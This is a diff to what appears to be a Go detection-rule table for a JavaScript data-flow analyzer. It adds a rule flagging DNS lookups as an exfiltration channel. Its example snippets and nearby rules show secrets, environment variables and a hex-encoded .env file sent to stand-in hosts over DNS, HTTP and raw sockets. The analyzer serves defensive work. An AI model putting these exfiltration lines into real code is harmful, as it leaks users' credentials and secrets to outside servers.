@@ -225,6 +225,10 @@ var jsRules = [...]rule{
 		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
 	{name: "axios.get|got|got.get|http.get|https.get|axios.request", do: aFetch, ex: `require("axios").get("https://x.example/?t=" + process.env.TOKEN) => var:send TOKEN` + "\n" +
 		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
+	// A name looked up goes to the resolver and on to the domain's name servers (a DNS channel).
+	{name: "dns.lookup|dns.resolve|dns.resolve4|dns.resolve6|dns.resolveTxt|dns.resolveAny|dns.resolveCname|dns.promises.lookup|dns.promises.resolve|dns.promises.resolve4|dns.promises.resolveTxt", do: aFetch, ex: `require("dns").lookup(process.env.SECRET + ".x.example", () => {}) => var:send SECRET` + "\n" +
+		`require("dns").resolveTxt(require("fs").readFileSync(".env", "hex").slice(0, 60) + ".x.example", () => {}) => read:send .env` + "\n" +
+		`require("dns").lookup("example.com", () => {}) !> var:send SECRET` + "\n"},
 	{name: "net.connect|net.createConnection|tls.connect|net.Socket#connect", do: aConnect, opt: "raw", ret: rSocket, ex: `require("net").connect(4444, "203.0.113.7") => send:raw 203.0.113.7` + "\n" +
 		`const s = require("net").createConnection({ host: "198.51.100.2", port: 80 }); s.write(JSON.stringify(process.env)) => env:send` + "\n" +
 		`require("net").isIP("1.2.3.4") !> -` + "\n"},
